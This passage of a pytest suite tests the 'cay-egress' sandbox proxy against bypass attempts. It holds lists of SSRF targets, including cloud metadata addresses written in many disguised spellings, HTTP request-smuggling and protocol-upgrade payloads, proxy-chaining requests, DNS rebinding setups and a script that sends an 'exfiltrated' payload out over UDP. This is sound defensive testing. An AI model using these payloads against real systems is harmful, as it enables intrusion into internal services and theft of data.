"""Ways past cay-egress, from inside real sandboxes of the whole server, against the stand-in internet: names,
addresses, side doors, requests that two parsers read differently. Each with its control: the same thing gets
through where the policy lets it, or where no proxy is in between."""

import contextlib
import itertools
import json
import os
import socket
import struct
import threading
import time

import pytest

from egresslib import ZONE, Stack, fetch, internet
from waitlib import until

PROXY = ("127.0.0.1", internet.TCP_PORT)
SECRET = "HOST SERVICE"  # what a service of the host's own says
INWARD = {  # name -> where it points: nowhere that a name alone may lead to
    "loop": ["127.0.0.1"], "zero": ["0.0.0.0"], "host": [internet.HOST_ADDRESS], "metadata": [internet.METADATA],
    "alibaba": ["100.100.100.200"], "azure": ["168.63.129.16"], "oracle": ["192.0.0.192"], "ten": [internet.PRIVATE],
    "multicast": ["224.0.0.1"], "broadcast": ["255.255.255.255"], "sandbox": [internet.OWN4], "fake": ["198.18.0.99"],
    "shared": ["100.64.0.9"], "reserved": ["240.0.0.9"],
    "loop6": ["::1"], "any6": ["::"], "host6": [internet.HOST_ADDRESS6], "aws6": ["fd00:ec2::254"], "gcp6": ["fd20:ce::254"],
    "mapped": ["::ffff:169.254.169.254"], "mappedloop": ["::ffff:127.0.0.1"], "mappedhost": [f"::ffff:{internet.HOST_ADDRESS}"],
    "mappedten": [f"::ffff:{internet.PRIVATE}"], "nat64": ["64:ff9b::a9fe:a9fe"], "sixtofour": ["2002:a9fe:a9fe::1"],
    "compatible": ["::a9fe:a9fe"], "link6": ["fe80::1"], "site6": ["fec0::9"], "local6": ["fd12::9"], "many6": ["ff02::1"]}
OUTSIDE = [[internet.OTHER]]
ATTACK_ZONE = {
    **ZONE, "rebind.example.com": {"a": [[internet.WEB], [internet.PRIVATE], [internet.METADATA]]},
    "mixed.example.com": {"a": [[internet.METADATA, internet.PRIVATE, internet.WEB]], "aaaa": [["fd00:ec2::254", "::1"]]},
    **{name: {"a": OUTSIDE} for name in ("evilweb.example.com", "web.example.com.evil.net", "web-example.com", "example.com",
                                         "xn--wb-bja.example.com", "sub.web.example.com", "web.example.comm")},
    **{f"{name}.inward.example.com": {"aaaa" if ":" in a[0] else "a": [a]} for name, a in INWARD.items()}}
WEB_ONLY = {"denyOut": ["0.0.0.0/0"], "allowOut": ["web.example.com"]}
EVERYTHING = {"default": "allow"}


@pytest.fixture(scope="module")
def stack():
    if os.geteuid() != 0:
        pytest.skip("network namespaces need root")
    s = Stack(zone=ATTACK_ZONE, egress_args=("--egress-connections=4096", "--egress-connections-per-second=5000",
                                             "--egress-connect-timeout=3s"))
    yield s
    s.close()


@pytest.fixture(scope="module")
def web_only(stack):
    with stack.cay.create(timeout_s=1800, network=WEB_ONLY) as made:
        yield made


@pytest.fixture(scope="module")
def public(stack):
    with stack.cay.create(timeout_s=1800) as made:
        yield made


@pytest.fixture(scope="module")
def open_box(stack):
    """As open as a policy gets, under a ceiling that is as high."""
    with stack.cay.create(timeout_s=1800) as made:
        assert stack.put(made, EVERYTHING, EVERYTHING)[0] == 204
        yield made


@pytest.fixture(scope="module")
def host_service(stack):
    """A service of the host on all its addresses, as a database or cayd itself is."""
    def answer(connection):
        with contextlib.suppress(OSError):
            connection.settimeout(5)
            connection.recv(4096)
            connection.sendall(f"HTTP/1.1 200 fine\r\nContent-Length: {len(SECRET)}\r\n\r\n{SECRET}".encode())
            connection.close()

    def serve(port):
        s = socket.socket(socket.AF_INET6)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 0)
        s.bind(("::", port))
        s.listen(64)
        return s

    def loop(s):
        with contextlib.suppress(OSError):
            while True:
                answer(s.accept()[0])

    listeners = [internet.inside(stack.networks.host, lambda p=port: serve(p)) for port in (80, 22)]
    for s in listeners:
        threading.Thread(target=loop, args=(s,), daemon=True).start()
    yield
    for s in listeners:
        s.shutdown(socket.SHUT_RDWR)
        s.close()


# -- tools -------------------------------------------------------------------------------------------

RAW = """
import asyncio, json, socket, ssl, sys

async def probe(p):
    data, error, writer = b"", None, None
    try:
        where = socket.getaddrinfo(p["host"], p["port"], type=socket.SOCK_STREAM)[0][4][0]
        reader, writer = await asyncio.wait_for(asyncio.open_connection(where, p["port"]), 10)
        for piece in p["send"]:
            writer.write(piece.encode("latin-1"))
            await writer.drain()
            await asyncio.sleep(p["pause"])
        while True:
            part = await asyncio.wait_for(reader.read(65536), p["wait"])
            if not part:
                break
            data += part
    except (OSError, asyncio.TimeoutError) as e:
        error = type(e).__name__
    if writer:
        writer.transport.abort()
    return {"data": data.decode("latin-1"), "error": error}

async def main():
    room = asyncio.Semaphore(32)
    async def one(p):
        async with room:
            return await probe(p)
    print(json.dumps(await asyncio.gather(*(one(p) for p in json.load(open(sys.argv[1]))))))

asyncio.run(main())
"""


def raw(sandbox, probes):
    """Bytes to (host, port), all at the same time: [(host, port, [piece, ...])] -> what came back of each."""
    asked = [{"host": h, "port": p, "send": [pieces] if isinstance(pieces, str) else list(pieces), "pause": 0.05, "wait": 3}
             for h, p, pieces in probes]
    assert sandbox.write("/tmp/raw.py", RAW.encode()).status == 200
    assert sandbox.write("/tmp/raw.json", json.dumps(asked).encode()).status == 200
    r = sandbox.run("python3 /tmp/raw.py /tmp/raw.json", timeout=120)
    assert r.exit_code == 0, r.stderr.decode()
    return [answer["data"] for answer in json.loads(r.out)]


def direct(stack, host, port, data, ends=False):
    """The same from the host, without a proxy. ends: nothing more will be said."""
    def work():
        answer = b""
        with socket.create_connection((host, port), 5) as s:
            s.settimeout(2)
            s.sendall(data.encode("latin-1"))
            if ends:
                s.shutdown(socket.SHUT_WR)
            with contextlib.suppress(OSError):
                while part := s.recv(65536):
                    answer += part
        return answer.decode("latin-1")
    return internet.inside(stack.networks.host, work)


def request(target, host, path="/attack", extra=""):
    return f"GET {target}{path} HTTP/1.1\r\nHost: {host}\r\n{extra}Connection: close\r\n\r\n"


def socks(name, port=80):
    """SOCKS5 with a name, and a request behind it."""
    return ["\5\1\0", f"\5\1\0\3{chr(len(name))}{name}{chr(port >> 8)}{chr(port & 255)}", request("", name)]


def each_way(authority):
    """A request for authority in all ways to say it to the proxy."""
    yield (*PROXY, request(f"http://{authority}", authority))
    yield (*PROXY, [f"CONNECT {authority}:80 HTTP/1.1\r\nHost: {authority}:80\r\n\r\n", request("", authority)])
    yield (*PROXY, [f"CONNECT {authority} HTTP/1.1\r\n\r\n", request("", authority)])
    yield (*PROXY, socks(authority.strip("[]")))


def answered(text):
    """It came from a server, not from cay."""
    return '"method": "GET"' in text or SECRET in text or "stand-in" in text


# -- names -------------------------------------------------------------------------------------------

def test_suffixes_and_prefixes(stack, web_only, public):
    names = ("evilweb.example.com", "web.example.com.evil.net", "web-example.com", "example.com", "sub.web.example.com",
             "xn--wb-bja.example.com", "web.example.comm")
    probes = [p for name in names for p in (("web.example.com", 80, request("", name)), *each_way(name))]
    assert not [a for a in raw(web_only, probes) if answered(a)]
    for name in names:
        assert "egress_denied" in web_only.run(f"curl -sS --max-time 20 http://{name}/").out
        assert not any(line.split()[1] == name for line in stack.networks.asked().splitlines())
    assert answered(raw(web_only, [("web.example.com", 80, request("", "web.example.com"))])[0])
    assert all(fetch(public, f"http://{name}/")["address"].endswith(internet.OTHER) for name in names)


ODD = ("web.example.com@other.example.net", "other.example.net@web.example.com", "web.example.com:80@other.example.net",
       "web.example.com\\@other.example.net", "web.example.com\\.other.example.net", "other.example.net\\web.example.com",
       "web.example.com\tother.example.net", "web.example.com other.example.net", "other.example.net web.example.com",
       "web.example.com#@other.example.net", "other.example.net#web.example.com", "other.example.net?web.example.com",
       "web.example.com/@other.example.net", "other.example.net%2f.web.example.com", "web.example.com%00.other.example.net",
       "other.example.net\0.web.example.com", "web.example.com,other.example.net", "[web.example.com]", ".web.example.com",
       "web..example.com", "web.example.com..", "web.example.com:80:80", "web.example.com:0", "web.example.com:99999",
       "web.example.com:+80", "web.example.com:80 ", "web.example.com:", "w\xe9b.example.com", "web.example.com\r\nX: y",
       "other.example.net;web.example.com", "other.example.net&web.example.com", "*.example.com", "{web.example.com}")


def test_odd_authorities(stack, web_only):
    """A message that two programs could read differently reaches no server."""
    before = stack.networks.asked().count("other.example.net")
    probes = [p for a in ODD for p in (("web.example.com", 80, request("", a)), *each_way(a))]
    for (host, port, sent), got in zip(probes, raw(web_only, probes), strict=True):
        seen = [json.loads(part)["headers"]["Host"] for part in got.split("\r\n") if part.startswith('{"method": "GET"')]
        assert all(h in ("web.example.com", "web.example.com:80", "web.example.com.") for h in seen), (host, port, sent, got)
    assert stack.networks.asked().count("other.example.net") == before
    good = [p for p in each_way("web.example.com")]
    assert sum(answered(a) for a in raw(web_only, good)) == 3  # CONNECT without a port is none


def test_host_sni_and_authority_must_agree(stack, open_box):
    """Also where every one of them is allowed: an allowed name is no cover for another."""
    web, other = "web.example.com", "other.example.net"
    plain = [(web, 80, request("", other)), (web, 80, request(f"http://{other}", other)),
             (web, 80, request(f"http://{web}", other)), (*PROXY, request(f"http://{web}", other)),
             (*PROXY, request(f"http://{web}:8080", web)),
             (*PROXY, [f"CONNECT {web}:80 HTTP/1.1\r\nHost: {web}\r\n\r\n", request("", other)]),
             (*PROXY, [*socks(web)[:2], request("", other)]),
             (web, 80, f"\r\n{request('', other)}"), (web, 80, f"\r\n\r\n\n{request('', other)}"),
             (web, 80, request("", other, "/" + "a" * 9000)), (web, 80, request("", other, "/" + "a" * 20000)),
             (web, 80, request("", other, extra=f"X: {'a' * 20000}\r\n")), (web, 80, f"\r\n{request('', other, '/' + 'a' * 20000)}"),
             (web, 80, ["\r\n", request("", other)]), (web, 80, ["G", request("", other)[1:]])]
    loose = [("HTTP/1.1\r", "HTTP/1.1 \r"), ("HTTP/1.1", "HTTP/1.11"), ("GET ", " GET "), ("GET ", "GET\t"), (" HTTP/1.1", "\tHTTP/1.1"),
             (" HTTP/1.1", "\x0bHTTP/1.1"), (" HTTP/1.1", ""), (" HTTP/1.1\r", ""), ("GET", "get"), ("HTTP/1.1", "http/1.1"),
             ("HTTP/1.1", "HTTP/2.0"), ("GET ", "GET  ")]
    plain += [(web, 80, request("", other).replace(*change, 1)) for change in loose]
    for sent, got in zip(plain, raw(open_box, plain), strict=True):
        assert f'"Host": "{other}"' not in got, (sent, got)
    for connect_to in (f"{other}:443:{web}:443", f"{web}:443:{other}:443"):
        name = connect_to.split(":", 1)[0]
        for proxy in ("", f"-x http://127.0.0.1:{internet.TCP_PORT}", f"-x socks5h://127.0.0.1:{internet.TCP_PORT}"):
            r = open_box.run(f"curl -sSk --max-time 20 {proxy} --connect-to {connect_to} https://{name}/attack")
            assert json.loads(r.out)["error"]["type"] == "egress_denied", (connect_to, proxy, r.out)
    assert "/attack" not in "".join(line for line in stack.networks.requests().splitlines() if other in line)
    fronted = [direct(stack, internet.WEB, 80, p[2]) for p in plain[-len(loose):]]
    assert sum(f'"Host": "{other}"' in got for got in fronted) >= 4, fronted  # the control: this server takes such
    assert answered(raw(open_box, [(other, 80, request("", other))])[0])


def test_another_host_on_a_kept_connection(stack, open_box):
    got = raw(open_box, [("web.example.com", 80, ["GET /one HTTP/1.1\r\nHost: web.example.com\r\n\r\n",
                                                  "GET /kept HTTP/1.1\r\nHost: other.example.net\r\n\r\n"])])[0]
    assert got.startswith("HTTP/1.1 200") and "HTTP/1.1 421" in got and "/kept" not in stack.networks.requests()


def test_redirects_are_the_clients_own(stack, web_only, public):
    for where in ("http://other.example.net/redirected", f"http://{internet.METADATA}/redirected"):
        url = f"'http://web.example.com/redirect?{where}'"
        r = web_only.run(f"curl -sSL --max-time 20 {url}")
        assert "egress_denied" in r.out and "GET /redirected" not in stack.networks.requests(), r.out
        assert web_only.run(f"curl -sS --max-time 20 -o /dev/null -w '%{{http_code}} %{{redirect_url}}' {url}").out == f"302 {where}"
    assert fetch(public, "'http://web.example.com/redirect?http://other.example.net/redirected'", "-L")["path"] == "/redirected"


# -- addresses ---------------------------------------------------------------------------------------

@pytest.mark.parametrize("policy,ceiling", [({"rules": [{"action": "allow", "domains": ["*.inward.example.com"]}]}, EVERYTHING),
                                            ({"default": "public"}, EVERYTHING), (EVERYTHING, {"default": "public"})],
                         ids=["by name", "public", "ceiling"])
def test_names_that_point_inward(stack, host_service, policy, ceiling):
    with stack.cay.create() as one:
        assert stack.put(one, policy, ceiling)[0] == 204
        names = [f"{name}.inward.example.com" for name in INWARD]
        for name, got in zip(names, raw(one, [(name, 80, request("", name)) for name in names]), strict=True):
            assert not answered(got), (name, got)


def test_what_no_policy_opens(stack, host_service, open_box):
    """Private networks are open here (the control), the host, metadata, loopback are not."""
    closed = set(INWARD) - {"ten", "mappedten", "shared", "site6", "local6", "reserved", "fake", "host6"} | {"host6"}
    names = [f"{name}.inward.example.com" for name in sorted(closed)]
    for name, got in zip(names, raw(open_box, [(name, 80, request("", name)) for name in names]), strict=True):
        assert not answered(got), (name, got)
    for name in ("ten", "mappedten"):
        assert fetch(open_box, f"http://{name}.inward.example.com/")["address"].endswith(internet.PRIVATE)


NEVER = (internet.METADATA, "100.100.100.200", "168.63.129.16", "192.0.0.192", "fd00:ec2::254", "fd20:ce::254",
         "64:ff9b::a9fe:a9fe", "2002:a9fe:a9fe::1", "::a9fe:a9fe", internet.HOST_ADDRESS, internet.HOST_ADDRESS6, "0.0.0.0", "::",
         "::ffff:169.254.169.254", "::ffff:0.0.0.0", "224.0.0.1", "255.255.255.255", "ff02::1")
SPELLINGS = ("2852039166", "0xa9fea9fe", "0xA9.0xFE.0xA9.0xFE", "0251.0376.0251.0376", "025177524776", "169.254.43518",
             "169.16689662", "169.254.169.254.", "00000251.254.169.254", "[::ffff:169.254.169.254]", "[::ffff:a9fe:a9fe]",
             "[0:0:0:0:0:ffff:a9fe:a9fe]", "[0000:0000:0000:0000:0000:FFFF:A9FE:A9FE]", "[::169.254.169.254]", "[64:ff9b::a9fe:a9fe]",
             "[2002:a9fe:a9fe::1]", "[fd00:ec2::254]", "[fd00:0ec2:0:0:0:0:0:254]", "[fd00:ec2::254%25lo]", "[fd00:ec2::254%lo]",
             "\xef\xbc\x91\xef\xbc\x96\xef\xbc\x99.254.169.254", "127.0.0.1", "127.1", "127.000.000.001", "0177.0.0.1", "0x7f.1",
             "2130706433", "0x7f000001", "017700000001", "0", "0.0.0.0", "[::]", "[::1]", "[::ffff:127.0.0.1]", "[::127.0.0.1]",
             "localhost", "localhost.", "LOCALHOST", "web.localhost", "ip6-localhost", internet.HOST_ADDRESS, "0xc0000201",
             "[::ffff:192.0.2.1]", f"[{internet.HOST_ADDRESS6}]")


def test_addresses_dialled(stack, host_service, open_box, public):
    probes = [(address, 80, request("", f"[{address}]" if ":" in address else address)) for address in NEVER]
    for one in (open_box, public):
        for sent, got in zip(probes, raw(one, probes), strict=True):
            assert not answered(got), (sent, got)
    for address in (internet.METADATA, "100.100.100.200", "168.63.129.16", "192.0.0.192", "fd00:ec2::254", "fd20:ce::254",
                    "64:ff9b::a9fe:a9fe", "2002:a9fe:a9fe::1", internet.HOST_ADDRESS, internet.HOST_ADDRESS6, "127.0.0.1"):
        assert answered(direct(stack, address, 80, request("", "x"))), f"the control: {address} answers the host"


def test_many_addresses_of_the_host(stack, host_service, open_box):
    """More than are kept one by one; and those that the host no longer has are dialled like others."""
    def change(netns, what, addresses):
        lines = "".join(f"address {what} {a}/32 dev lo\n" for a in addresses)
        internet.run("ip", "-netns", netns, "-batch", "-", input=lines)

    def answers(addresses):
        return [answered(a) for a in raw(open_box, [(a, 80, request("", a)) for a in addresses])]

    many = [f"11.7.{n // 200}.{n % 200 + 1}" for n in range(400)]
    looked_at = [many[n] for n in (0, 1, 150, 255, 256, 257, 300, 398, 399)]
    change(stack.networks.host, "add", many)
    try:
        assert all(answered(direct(stack, a, 80, request("", a))) for a in looked_at)  # the control
        until(lambda: not any(answers(looked_at)), 30)  # the kernel tells of addresses a moment after they are there
    finally:
        change(stack.networks.host, "delete", many)
    change(stack.networks.net, "add", looked_at[-2:])
    until(lambda: all(answers(looked_at[-2:])), 30)
    change(stack.networks.net, "delete", looked_at[-2:])
    assert not any(answers([internet.HOST_ADDRESS, internet.HOST_ADDRESS6]))


def test_addresses_spelled(stack, host_service, open_box):
    probes = [p for a in SPELLINGS for p in (("web.example.com", 80, request("", a)), *each_way(a))]
    for sent, got in zip(probes, raw(open_box, probes), strict=True):
        assert not answered(got), (sent, got)
    good = [*each_way(internet.PRIVATE)]
    assert sum(answered(a) for a in raw(open_box, good)) >= 2  # the control


def test_private_addresses_under_public(stack, public):
    addresses = (internet.PRIVATE, "172.16.0.9", "192.168.0.9", "100.64.0.9", "240.0.0.9", "fec0::9", "fd12::9", "198.18.0.99",
                 internet.GATEWAY, "198.51.100.7", f"::ffff:{internet.PRIVATE}")
    probes = [(a, 80, request("", f"[{a}]" if ":" in a else a)) for a in addresses]
    for sent, got in zip(probes, raw(public, probes), strict=True):
        assert not answered(got), (sent, got)
    for a in addresses[:4]:
        assert answered(direct(stack, a, 80, request("", a)))


def test_rebinding_and_mixed_answers(stack):
    with stack.cay.create(network={"denyOut": ["0.0.0.0/0"], "allowOut": ["rebind.example.com", "mixed.example.com"]}) as one:
        assert fetch(one, "http://rebind.example.com/")["address"].endswith(internet.WEB)

        def asked_again():
            one.run("curl -sS --max-time 20 http://rebind.example.com/")
            return stack.networks.asked().count("dns rebind.example.com 1 ") >= 2

        until(asked_again, 90, "its name is resolved again: the answer before is kept for its time to live", every=0.3)
        for url in ("http://rebind.example.com/", "https://rebind.example.com/"):
            r = one.run(f"curl -sSk --max-time 20 {url}")
            assert not answered(r.out), r.out
        for _ in range(5):
            for option in ("-4", "-6"):
                assert fetch(one, "http://mixed.example.com/", option)["address"].endswith(internet.WEB)


def test_other_sandboxes(stack, open_box, public):
    """Each has the same address; there is no way from one to another, not by a name's address either."""
    public.run("(cd /tmp; nohup python3 -m http.server 8000 --bind :: > /dev/null 2>&1 &) ; "
               "for i in $(seq 50); do curl -s http://127.0.0.1:8000/ && break; sleep 0.1; done")
    assert "Directory listing" in public.run("curl -sS http://127.0.0.1:8000/").out  # the control
    theirs = public.run("getent ahostsv4 only.in.that.one | head -1 | cut -d' ' -f1").out.strip()
    assert theirs.startswith(("198.18.", "198.19."))
    where = ("127.0.0.1", internet.OWN4, internet.OWN6, "::1", theirs)
    probes = [(a, 8000, request("", "x", "/")) for a in where]
    probes += [p for a in where for p in each_way(f"[{a}]:8000" if ":" in a else f"{a}:8000")]
    assert not [a for a in raw(open_box, probes) if "Directory listing" in a]


# -- proxies -----------------------------------------------------------------------------------------

def test_the_proxy_is_no_way_around(stack, web_only):
    before = stack.networks.asked().count("other.example.net")
    denied = [*each_way("other.example.net"), *each_way(internet.OTHER), *each_way("secret.invented.example")]
    got = raw(web_only, denied)
    assert not [a for a in got if answered(a)]
    assert sum("403" in a.split("\r\n")[0] for a in got) == 6 and sum(a[3:4] == "\2" for a in got) == 3
    assert stack.networks.asked().count("other.example.net") == before and "invented" not in stack.networks.asked()


def test_proxy_chains(stack, host_service, open_box):
    """Through the proxy to the proxy, to cayd, to what the host has on loopback."""
    port = stack.server.port
    ends = [f"{h}:{p}" for h in ("127.0.0.1", "[::1]", "localhost", internet.OWN4, f"[{internet.OWN6}]", internet.HOST_ADDRESS,
                                 "0.0.0.0", "[::ffff:127.0.0.1]") for p in (internet.TCP_PORT, internet.UDP_PORT, port, 22, 80)]
    inner = f"CONNECT web.example.com:80 HTTP/1.1\r\n\r\n{request('', 'web.example.com', '/chained')}"
    probes = [(*PROXY, [f"CONNECT {end} HTTP/1.1\r\n\r\n", inner]) for end in ends]
    probes += [(*PROXY, request(f"http://{end}", end, "/health")) for end in ends]
    for sent, got in zip(probes, raw(open_box, probes), strict=True):
        assert not answered(got) and "HTTP/1.1 200" not in got, (sent, got)
    assert "/chained" not in stack.networks.requests()
    assert "200" in direct(stack, "127.0.0.1", port, request("", "x", "/health")).split("\r\n")[0]  # the control
    assert SECRET in direct(stack, "127.0.0.1", 22, "hello\r\n")
    good = raw(open_box, [(*PROXY, ["CONNECT web.example.com:80 HTTP/1.1\r\n\r\n", request("", "web.example.com", "/fine")])])[0]
    assert "/fine" in good


# -- requests read in two ways -----------------------------------------------------------------------

HIDDEN = "GET /smuggled HTTP/1.1\r\nHost: web.example.com\r\n\r\n"
CHUNKED = f"0\r\n\r\n{HIDDEN}"
TOP = "POST /ok/1 HTTP/1.1\r\nHost: web.example.com\r\n"
SHAPES = {
    "two lengths": f"{TOP}Content-Length: 0\r\nContent-Length: {len(HIDDEN)}\r\n\r\n{HIDDEN}",
    "a list of lengths": f"{TOP}Content-Length: 0, {len(HIDDEN)}\r\n\r\n{HIDDEN}",
    "length and chunks": f"{TOP}Content-Length: {len(CHUNKED)}\r\nTransfer-Encoding: chunked\r\n\r\n{CHUNKED}",
    "chunks and length": f"{TOP}Transfer-Encoding: chunked\r\nContent-Length: 5\r\n\r\n{CHUNKED}",
    "chunked twice": f"{TOP}Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n\r\n{CHUNKED}",
    "chunked misspelled": f"{TOP}Transfer-Encoding: xchunked\r\n\r\n{CHUNKED}",
    "chunked with a tab": f"{TOP}Transfer-Encoding:\tchunked\x0b\r\n\r\n{CHUNKED}",
    "space before colon": f"{TOP}Content-Length : {len(HIDDEN)}\r\n\r\n{HIDDEN}",
    "folded": f"{TOP}X: y\r\n Content-Length: {len(HIDDEN)}\r\n\r\n{HIDDEN}",
    "folded coding": f"{TOP}Transfer-Encoding:\r\n chunked\r\n\r\n{CHUNKED}",
    "lone LF": f"POST /ok/1 HTTP/1.1\nHost: web.example.com\nContent-Length: {len(HIDDEN)}\n\n{HIDDEN}",
    "LF in a value": f"{TOP}X: y\nContent-Length: {len(HIDDEN)}\r\n\r\n{HIDDEN}",
    "lone CR": f"{TOP}X: y\rContent-Length: {len(HIDDEN)}\r\n\r\n{HIDDEN}",
    "NUL": f"{TOP}X: y\0\r\nContent-Length: {len(HIDDEN)}\r\n\r\n{HIDDEN}",
    "signed length": f"{TOP}Content-Length: +{len(HIDDEN)}\r\n\r\n{HIDDEN}",
    "negative length": f"{TOP}Content-Length: -1\r\n\r\n{HIDDEN}",
    "hexadecimal length": f"{TOP}Content-Length: 0x10\r\n\r\n{HIDDEN}",
    "huge length": f"{TOP}Content-Length: 18446744073709551616\r\n\r\n{HIDDEN}",
    "two hosts": f"GET /ok/1 HTTP/1.1\r\nHost: web.example.com\r\nHost: other.example.net\r\n\r\n{HIDDEN}",
    "no host": f"GET /ok/1 HTTP/1.1\r\n\r\n{HIDDEN}",
    "a chunk too long": f"{TOP}Transfer-Encoding: chunked\r\n\r\n1\r\nab\r\n{CHUNKED}",
    "a chunk of hex with x": f"{TOP}Transfer-Encoding: chunked\r\n\r\n0x0\r\n\r\n{HIDDEN}",
    "LF between chunks": f"{TOP}Transfer-Encoding: chunked\r\n\r\n1\na\n0\n\n{HIDDEN}",
    "chunks in 1.0": f"POST /ok/1 HTTP/1.0\r\nHost: web.example.com\r\nTransfer-Encoding: chunked\r\nConnection: keep-alive\r\n\r\n{CHUNKED}",
    "an empty line first": f"\r\n{HIDDEN}", "LF first": f"\n{HIDDEN}", "space first": f" {HIDDEN}",
    "a tab in the request line": "GET\t/smuggled\tHTTP/1.1\r\nHost: web.example.com\r\n\r\n",
    "two spaces": "GET  /smuggled  HTTP/1.1\r\nHost: web.example.com\r\n\r\n",
    "a space behind": "GET /smuggled HTTP/1.1 \r\nHost: web.example.com\r\n\r\n",
    "a version of its own": "GET /smuggled HTTP/1.10\r\nHost: web.example.com\r\n\r\n",
    "version 2 in plain": "GET /smuggled HTTP/2.0\r\nHost: web.example.com\r\n\r\n",
    "version 0.9": "GET /smuggled\r\n", "lower case": "GET /smuggled http/1.1\r\nHost: web.example.com\r\n\r\n",
    "a body in a GET": f"GET /ok/1 HTTP/1.1\r\nHost: web.example.com\r\nContent-Length: 0\r\nContent-Length: 0\r\n\r\n{HIDDEN}",
    "dot segments": "GET /ok/../smuggled HTTP/1.1\r\nHost: web.example.com\r\n\r\n",
    "encoded dots": "GET /ok/%2e%2e/smuggled HTTP/1.1\r\nHost: web.example.com\r\n\r\n",
    "encoded slash": "GET /ok/..%2fsmuggled HTTP/1.1\r\nHost: web.example.com\r\n\r\n",
    "backslash": "GET /ok/..\\smuggled HTTP/1.1\r\nHost: web.example.com\r\n\r\n",
    "another method": "SMUGGLE /smuggled HTTP/1.1\r\nHost: web.example.com\r\n\r\n",
    "plainly": f"GET /ok/1 HTTP/1.1\r\nHost: web.example.com\r\n\r\n{HIDDEN}",
}


def test_smuggling(stack):
    """Only /ok/ is allowed. The hidden request must not be seen by the server in any reading."""
    rule = {"action": "allow", "domains": ["web.example.com"], "methods": ["GET", "POST"], "paths": ["/ok/*"]}
    with stack.cay.create() as one:
        assert stack.put(one, {"rules": [rule]})[0] == 204
        probes = [("web.example.com", 80, shape) for shape in SHAPES.values()]
        probes += [("web.example.com", 80, list(shape[:200]) + [shape[200:]]) for shape in list(SHAPES.values())[:6]]
        probes += [(*PROXY, shape.replace(" /", " http://web.example.com/", 1)) for shape in SHAPES.values()]
        raw(one, probes)
        assert "smuggled" not in stack.networks.requests()
        assert answered(raw(one, [("web.example.com", 80, request("", "web.example.com", "/ok/fine"))])[0])
    through = 0
    for shape in SHAPES.values():  # the control: without cay-egress the server sees most of them
        before = stack.networks.requests().count("smuggled")
        direct(stack, internet.WEB, 80, shape, ends=True)
        through += stack.networks.requests().count("smuggled") > before
    assert through >= 15, through


def test_a_change_of_protocol_hides_nothing(stack):
    """A server that agrees to HTTP/2, or to nothing at all, and goes on reading requests."""
    rule = {"action": "allow", "domains": ["web.example.com"], "methods": ["GET"], "paths": ["/ok/*"]}
    after = "GET /past-the-filter HTTP/1.1\r\nHost: web.example.com\r\n\r\n"

    def ask(path, *lines):
        return "".join(f"{line}\r\n" for line in (f"GET {path} HTTP/1.1", "Host: web.example.com", *lines, ""))

    h2c = ("Connection: Upgrade, HTTP2-Settings", "Upgrade: h2c", "HTTP2-Settings: AAMAAABkAAQCAAAAAAIAAAAA")
    shapes = [ask("/ok/switch", *h2c), ask("/ok/switch", "Connection: Upgrade", "Upgrade: TLS/1.0"), ask("/ok/switch"),
              ask("/ok/1", "Connection: Upgrade", "Upgrade: websocket", "Sec-WebSocket-Version: 13"), ask("/ok/1", *h2c),
              ask("/ok/switch", "Connection: Upgrade", "Upgrade: websocket, h2c"),
              ask("/ok/switch", "Connection: Upgrade", "Upgrade: websocket"),
              ask("/ok/switch", "Connection: Upgrade", "Upgrade: websocket", "Sec-WebSocket-Version: 13",
                  "Sec-WebSocket-Key: MDEyMzQ1Njc4OWFiY2RlZg=="),
              ask("/ok/switch", "Connection: Upgrade", "Upgrade: h2c, websocket"), ask("/ok/switch", "Connection: upgrade", "Upgrade: H2C", h2c[2]),
              ask("/ok/switch", "Connection: Upgrade", "Upgrade: websocket", "Upgrade: h2c", h2c[2]),
              ask("/ok/switch", "Connection: Upgrade, HTTP2-Settings", "Upgrade: websocket", "Upgrade : h2c", h2c[2]),
              ask("/ok/switch", "Connection: HTTP2-Settings", h2c[2]), ask("/ok/switch", "Upgrade: h2c", h2c[2]),
              ask("/ok/switch", "Connection: Upgrade", "Upgrade: h2"), ask("/ok/switch", "Connection: Upgrade", "Upgrade:\th2c\t"),
              "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"]
    with stack.cay.create() as one:
        assert stack.put(one, {"rules": [rule]})[0] == 204
        got = raw(one, [("web.example.com", 80, [shape, after]) for shape in shapes] +
                  [(*PROXY, [shape.replace(" /", " http://web.example.com/", 1), after]) for shape in shapes])
        assert "past-the-filter" not in stack.networks.requests(), got
    direct(stack, internet.WEB, 80, shapes[0] + after)
    assert "past-the-filter" in stack.networks.requests()  # the control


# -- side doors --------------------------------------------------------------------------------------

class Wire:
    """Everything that arrives in the stand-in internet while it is looked at."""

    def __init__(self, networks):
        def make():
            s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
            s.bind(("in", 0))
            s.setblocking(False)
            return s
        self.socket = internet.inside(networks.net, make)

    def seen(self):
        """(protocol, port, bytes) of each packet from the host; protocol as in IP, NDP left out."""
        found = []
        while True:
            try:
                packet, where = self.socket.recvfrom(65536)
            except BlockingIOError:
                return found
            kind, ip = struct.unpack_from(">H", packet, 12)[0], packet[14:]
            if where[2] == 4 or kind not in (0x0800, 0x86dd):  # our own; ARP
                continue
            protocol, body = (ip[9], ip[(ip[0] & 15) * 4:]) if kind == 0x0800 else (ip[6], ip[40:])
            if protocol == 58 and body[0] in (133, 134, 135, 136, 143) or protocol == 0:
                continue
            found.append((protocol, struct.unpack_from(">H", body, 2)[0] if protocol in (6, 17) else 0, body))


DOORS = """
import socket, struct
payload = b"exfiltrated"
def attempt(make, *to):
    try:
        s = make()
        s.settimeout(0.5)
        s.sendto(payload, *to)
    except OSError as e:
        pass
v4, v6 = "%s", "%s"
for family, host in ((socket.AF_INET, v4), (socket.AF_INET6, v6), (socket.AF_INET, "8.8.8.8"), (socket.AF_INET, "224.0.0.251"),
                     (socket.AF_INET, "255.255.255.255"), (socket.AF_INET6, "ff02::fb"), (socket.AF_INET6, "::ffff:" + v4)):
    for port in (443, 53, 80, 123, 853, 5353, 33434, 3153, 67, 547):
        attempt(lambda: socket.socket(family, socket.SOCK_DGRAM), (host, port))
        attempt(lambda: socket.socket(family, socket.SOCK_DGRAM, 136), (host, port))
    for kind, protocol in ((socket.SOCK_DGRAM, 1), (socket.SOCK_DGRAM, 58), (socket.SOCK_RAW, 1), (socket.SOCK_RAW, 58),
